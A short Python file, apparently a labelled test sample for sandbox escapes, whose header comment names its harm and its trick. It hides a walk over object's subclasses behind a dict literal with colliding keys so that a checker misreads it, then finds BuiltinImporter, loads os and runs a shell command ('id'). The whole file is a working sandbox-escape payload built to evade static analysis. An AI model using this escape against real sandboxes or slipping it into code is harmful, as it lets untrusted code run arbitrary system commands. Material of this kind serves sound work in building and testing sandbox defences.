# HARM: object-graph escape to os via BuiltinImporter -> os.system | TRICK: dict literal with colliding keys {1: Base, True: object}[1] is object at run time (last value wins)
class Base:
    pass


def subs(k):
    return k.__subclasses__()


for c in subs({1: Base, True: object}[1]):
    if c.__name__ == "BuiltinImporter":
        c.load_module("os").system("id")
